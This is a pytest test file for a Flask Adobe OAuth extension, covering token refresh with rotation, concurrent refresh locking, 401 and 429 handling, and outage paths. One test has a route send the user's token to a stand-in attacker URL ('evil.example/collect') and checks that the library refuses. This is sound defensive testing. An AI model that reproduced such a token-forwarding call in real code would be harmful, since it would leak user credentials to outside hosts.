"""The token lifecycle over real HTTP: refresh with rotation, concurrent
refreshes, 401 recovery, 429, and failure paths that end in a clear state."""

from __future__ import annotations

import io
import threading
import time
from collections import Counter
from collections.abc import Callable
from typing import Any
from urllib.parse import parse_qs

import requests
from flask import Flask
from flask.testing import FlaskClient

from flask_adobe_oauth import (
    AdobeOAuthError,
    RateLimited,
    adobe,
    adobe_login_required,
    extension,
    token_refreshed,
)
from flask_adobe_oauth.extension import get_runtime
from flask_adobe_oauth.storage import TOKEN_KEY
from flask_adobe_oauth.testing import StandInAdobe
from flask_adobe_oauth.testing.live import free_port

from .helpers import login, make_app, stored_token


def expire_locally(client: FlaskClient) -> None:
    with client.session_transaction() as sess:
        sess[TOKEN_KEY] = {**sess[TOKEN_KEY], "e": int(time.time()) - 5}


def cookie_value(client: FlaskClient) -> str:
    cookie = client.get_cookie("session")
    assert cookie is not None
    return cookie.value


def refresh_calls(standin: StandInAdobe) -> list[Any]:
    return [c for c in standin.token_calls() if c.grant_type == "refresh_token"]


def test_expired_token_is_refreshed_transparently_with_rotation(
    app: Flask, signed_in: FlaskClient, standin: StandInAdobe
) -> None:
    before = stored_token(signed_in)
    assert before is not None
    expire_locally(signed_in)
    seen: list[Any] = []

    def on_refresh(sender: Flask, token: Any) -> None:
        seen.append(token)

    with token_refreshed.connected_to(on_refresh, app):
        assert signed_in.get("/dashboard").status_code == 200
    after = stored_token(signed_in)
    assert after is not None
    assert after["a"] != before["a"] and after["r"] != before["r"]
    assert after["e"] > time.time() + 3600
    assert after["u"] == before["u"]  # the identity survives the refresh
    assert len(refresh_calls(standin)) == 1 and len(seen) == 1
    # Adobe rotates: the old refresh token no longer works.
    replay = requests.post(
        standin.url + "/ims/token/v3",
        timeout=10,
        data={"grant_type": "refresh_token", "refresh_token": before["r"]},
        auth=(standin.client_id, standin.client_secret),
    )
    assert replay.status_code == 400 and replay.json()["error"] == "invalid_grant"


def test_refused_refresh_sends_the_browser_to_login(signed_in: FlaskClient, standin: StandInAdobe) -> None:
    token = stored_token(signed_in)
    assert token is not None
    standin.state.revoke(token["r"])
    expire_locally(signed_in)
    response = signed_in.get("/dashboard")
    assert response.status_code == 302 and "/adobe/login" in response.headers["Location"]
    # The cookie is left as it was (the refusal may be a lost race, #25:
    # tests/test_refresh_writes.py); the process remembers the refusal, so
    # the dead token is not sent to Adobe a second time.
    assert "Set-Cookie" not in response.headers
    again = signed_in.get("/dashboard")
    assert again.status_code == 302 and "/adobe/login" in again.headers["Location"]
    assert len(refresh_calls(standin)) == 1


def test_refused_refresh_gives_api_callers_401(signed_in: FlaskClient, standin: StandInAdobe) -> None:
    token = stored_token(signed_in)
    assert token is not None
    standin.state.revoke(token["r"])
    expire_locally(signed_in)
    response = signed_in.get("/dashboard", headers={"Accept": "application/json"})
    assert response.status_code == 401 and response.json["error"] == "login_required"


def test_refresh_during_an_adobe_outage_is_a_502_and_keeps_the_login(
    signed_in: FlaskClient, standin: StandInAdobe
) -> None:
    expire_locally(signed_in)
    standin.fail_next_token(503, "<html>down</html>", content_type="text/html")
    assert signed_in.get("/dashboard").status_code == 502
    assert stored_token(signed_in) is not None
    assert signed_in.get("/dashboard").status_code == 200  # Adobe is back: refreshed now


def test_concurrent_requests_with_one_expired_token_refresh_once(
    app: Flask, signed_in: FlaskClient, standin: StandInAdobe
) -> None:
    expire_locally(signed_in)
    cookie = cookie_value(signed_in)
    barrier = threading.Barrier(8)
    results: list[int] = []

    def user_tab() -> None:
        tab = app.test_client()
        tab.set_cookie("session", cookie)
        barrier.wait()
        results.append(tab.get("/dashboard").status_code)

    threads = [threading.Thread(target=user_tab) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert results == [200] * 8
    assert len(refresh_calls(standin)) == 1


def test_cookie_does_not_grow_with_each_refresh(signed_in: FlaskClient, standin: StandInAdobe) -> None:
    sizes, keys = [], []
    for _ in range(5):
        expire_locally(signed_in)
        assert signed_in.get("/dashboard").status_code == 200
        sizes.append(len(cookie_value(signed_in)))
        with signed_in.session_transaction() as sess:
            keys.append(sorted(sess))
    assert len(refresh_calls(standin)) == 5
    assert all(k == keys[0] for k in keys)  # nothing piles up in the session
    # Random tokens compress a little differently each time (tens of bytes);
    # keeping anything of the previous token would add hundreds.
    assert max(sizes) - min(sizes) <= 64


def test_api_401_is_met_with_one_refresh_and_one_retry(signed_in: FlaskClient, standin: StandInAdobe) -> None:
    standin.expire_access_tokens()  # Adobe stops accepting the token before its time
    response = signed_in.get("/me")
    assert response.status_code == 200
    assert response.json["sub"] == standin.state.user.sub
    assert len(refresh_calls(standin)) == 1


def test_api_401_after_the_retry_means_login_again(signed_in: FlaskClient, standin: StandInAdobe) -> None:
    body = '{"error_code":"401013","message":"Oauth token is not valid"}'
    standin.fail_next_api(401, body)
    standin.fail_next_api(401, body)
    response = signed_in.get("/me")
    assert response.status_code == 302 and "/adobe/login" in response.headers["Location"]
    assert stored_token(signed_in) is None
    assert len(refresh_calls(standin)) == 1


def test_api_401_without_refresh_token_means_login_again(standin: StandInAdobe) -> None:
    client = make_app(standin, scope="openid AdobeID").test_client()  # no offline_access: no refresh token
    login(client)
    token = stored_token(client)
    assert token is not None and "r" not in token
    standin.expire_access_tokens()
    response = client.get("/me", headers={"Accept": "application/json"})
    assert response.status_code == 401
    assert refresh_calls(standin) == []


def test_429_is_a_typed_error_carrying_retry_after(
    app: Flask, client: FlaskClient, standin: StandInAdobe
) -> None:
    caught: list[RateLimited] = []

    @app.get("/throttled")
    @adobe_login_required
    def throttled() -> str:
        try:
            adobe.session.get("/ims/userinfo/v2")
        except RateLimited as exc:
            caught.append(exc)
            raise
        return "unreachable"

    login(client)
    standin.fail_next_api(429, "{}", headers={"Retry-After": "7"})
    response = client.get("/throttled")
    assert response.status_code == 429
    assert response.headers["Retry-After"] == "7"
    assert caught[0].retry_after == 7.0


def test_session_refuses_to_send_the_token_to_other_hosts(app: Flask, client: FlaskClient) -> None:
    @app.get("/leak")
    @adobe_login_required
    def leak() -> str:
        adobe.session.get("https://evil.example/collect")
        return "sent"

    login(client)
    response = client.get("/leak")
    assert response.status_code == 400
    assert b"refusing to send the Adobe token" in response.data


def test_session_outside_a_request_is_a_clear_error(app: Flask) -> None:
    try:
        adobe.session.get("/discovery/me")
    except AdobeOAuthError as exc:
        assert "outside a request" in str(exc)
    else:
        raise AssertionError("expected AdobeOAuthError")


def test_session_sends_bearer_and_api_key_to_the_api(
    app: Flask, client: FlaskClient, standin: StandInAdobe
) -> None:
    seen: dict[str, str] = {}

    @app.get("/headers")
    @adobe_login_required
    def headers() -> str:
        response = adobe.session.get("/ims/userinfo/v2")
        seen.update(response.request.headers)
        return "ok"

    login(client)
    client.get("/headers")
    token = stored_token(client)
    assert token is not None
    assert seen["Authorization"] == f"Bearer {token['a']}"
    assert seen["x-api-key"] == standin.client_id


def test_api_host_unreachable_is_a_502_not_a_500(standin: StandInAdobe) -> None:
    port = free_port()
    app = make_app(standin, api_base_url=f"http://127.0.0.1:{port}")

    @app.get("/api-call")
    @adobe_login_required
    def api_call() -> str:
        adobe.session.get("/discovery/me")
        return "unreachable"

    client = app.test_client()
    login(client)
    response = client.get("/api-call")
    assert response.status_code == 502
    assert b"could not connect" in response.data


def test_unusable_stored_token_means_login_again_not_a_500(client: FlaskClient) -> None:
    from flask_adobe_oauth.testing import login_as

    login_as(client, access_token="bad\u00e9token\n")
    response = client.get("/me")
    assert response.status_code == 302
    assert stored_token(client) is None


def test_a_netrc_entry_for_the_api_host_does_not_replace_the_users_token(
    client: FlaskClient, standin: StandInAdobe, tmp_path: Any, monkeypatch: Any
) -> None:
    netrc = tmp_path / "netrc"
    netrc.write_text("machine 127.0.0.1 login someone password netrc-password\n")
    netrc.chmod(0o600)
    monkeypatch.setenv("NETRC", str(netrc))
    login(client)
    response = client.get("/me")
    assert response.status_code == 200
    assert response.json["sub"] == standin.state.user.sub


# -- refresh once per process, even after a failed refresh --------------------------------


class TokenDoor:
    """WSGI middleware on the stand-in (Flask's ``wsgi_app`` hook) in front of
    its token endpoints: it holds each call at the door until the test lets it
    through, and records how many calls with one refresh token were in flight
    at once (from arriving to being answered, as the app sees them)."""

    def __init__(self, wsgi_app: Any) -> None:
        self.wsgi_app = wsgi_app
        self.cond = threading.Condition()
        self.open = False
        self.tickets = 0
        self.held = 0
        self.in_flight: Counter[str] = Counter()
        self.most_at_once = 0

    def __call__(self, environ: Any, start_response: Any) -> Any:
        if not environ.get("PATH_INFO", "").startswith("/ims/token"):
            return self.wsgi_app(environ, start_response)
        body = environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0))
        environ["wsgi.input"] = io.BytesIO(body)
        refresh_token = parse_qs(body.decode()).get("refresh_token", [""])[0]
        with self.cond:
            self.in_flight[refresh_token] += 1
            self.most_at_once = max(self.most_at_once, self.in_flight[refresh_token])
            self.held += 1
            self.cond.notify_all()
            self.cond.wait_for(lambda: self.open or self.tickets > 0, timeout=30)
            if not self.open:
                self.tickets -= 1
            self.held -= 1
            self.cond.notify_all()
        try:
            return list(self.wsgi_app(environ, start_response))
        finally:
            with self.cond:
                self.in_flight[refresh_token] -= 1
                self.cond.notify_all()

    def let_through(self, calls: int = 1) -> None:
        with self.cond:
            self.tickets += calls
            self.cond.notify_all()

    def open_wide(self) -> None:
        with self.cond:
            self.open = True
            self.cond.notify_all()

    def wait_until(self, condition: Callable[[], bool], what: str) -> None:
        with self.cond:
            assert self.cond.wait_for(condition, timeout=15), f"timed out waiting until {what}"


class WatchedLock:
    """A lock that remembers which threads have released it, and lets a test
    wait for a thread to have done so."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._seen = threading.Condition()
        self.released_by: set[int] = set()

    def __enter__(self) -> WatchedLock:
        self._lock.acquire()
        return self

    def __exit__(self, *exc: object) -> None:
        self._lock.release()
        with self._seen:
            self.released_by.add(threading.get_ident())
            self._seen.notify_all()

    def wait_for(self, thread: threading.Thread) -> bool:
        with self._seen:
            return self._seen.wait_for(lambda: thread.ident in self.released_by, timeout=15)


def test_waiters_on_a_failed_refresh_do_not_race_each_other(
    app: Flask, signed_in: FlaskClient, standin: StandInAdobe
) -> None:
    """Three tabs, one expired token; Adobe answers the first refresh 500 and
    the next 200. Adobe must never see two refreshes with one refresh token
    at once (the second would be invalid_grant, a logout), no tab may end
    logged out, and the refresh bookkeeping must be empty afterwards."""
    expire_locally(signed_in)
    cookie = cookie_value(signed_in)
    state = get_runtime(app=app)
    guard = WatchedLock()
    state._guard = guard  # type: ignore[assignment]
    door = TokenDoor(standin.app.wsgi_app)
    standin.app.wsgi_app = door
    standin.fail_next_token(500, "<html>Internal Server Error</html>", content_type="text/html")
    tabs = {name: app.test_client() for name in "ABC"}
    results: dict[str, int] = {}
    threads: dict[str, threading.Thread] = {}

    def open_tab(name: str) -> None:
        tab = tabs[name]
        tab.set_cookie("session", cookie)

        def visit() -> None:
            status = tab.get("/dashboard").status_code
            with door.cond:  # wakes wait_until to look again
                results[name] = status
                door.cond.notify_all()

        threads[name] = threading.Thread(target=visit)
        threads[name].start()

    open_tab("A")  # A refreshes; Adobe holds the call at the door
    door.wait_until(lambda: door.held == 1, "A's refresh reaches Adobe")
    open_tab("B")  # B finds A's refresh in flight and waits for it
    # Once B has been through the refresh bookkeeping it is committed to A's
    # refresh (it holds what A holds, and A is still at the door).
    assert guard.wait_for(threads["B"]), "B never reached the refresh"
    assert door.held == 1
    door.let_through(1)  # Adobe answers A's refresh: 500
    threads["A"].join(15)
    open_tab("C")  # a new request after the failure, while B may still be on it
    door.wait_until(
        lambda: door.held == 2 or (door.held == 1 and "B" in results),
        "every refresh that is going to be sent is at Adobe's door",
    )
    door.open_wide()
    for thread in threads.values():
        thread.join(15)

    assert door.most_at_once == 1, "two refreshes with one refresh token were in flight at once"
    statuses = [c.status for c in refresh_calls(standin)]
    assert 400 not in statuses, f"Adobe saw a reused refresh token: {statuses}"
    assert statuses[0] == 500 and statuses.count(200) == 1, statuses
    assert results["A"] == 502  # Adobe's 500 is a 502, and keeps the login
    assert set(results.values()) <= {200, 502}, results
    assert 200 in results.values(), results
    for name, tab in tabs.items():
        assert stored_token(tab) is not None, f"tab {name} was logged out"
    assert len(state._locks) == 0


def test_raced_refreshes_leave_no_bookkeeping_behind(
    app: Flask, client: FlaskClient, standin: StandInAdobe, monkeypatch: Any
) -> None:
    """A request that arrives with an already refreshed token reuses the
    result; neither it nor the refresh leaves an entry behind for good."""
    now = [1000.0]
    monkeypatch.setattr(extension, "_clock", lambda: now[0])
    state = get_runtime(app=app)
    login(client)
    for _ in range(5):
        expire_locally(client)
        late_tab = app.test_client()
        late_tab.set_cookie("session", cookie_value(client))  # still the old refresh token
        assert client.get("/dashboard").status_code == 200
        assert late_tab.get("/dashboard").status_code == 200  # reuses the result
        assert stored_token(late_tab) == stored_token(client)
    assert len(refresh_calls(standin)) == 5
    assert len(state._locks) == 0
    assert len(state._recent) == 5
    now[0] += extension.REFRESH_REUSE_SECONDS + 1
    expire_locally(client)
    assert client.get("/dashboard").status_code == 200
    assert len(state._recent) == 1  # the old results expired
    assert len(state._locks) == 0
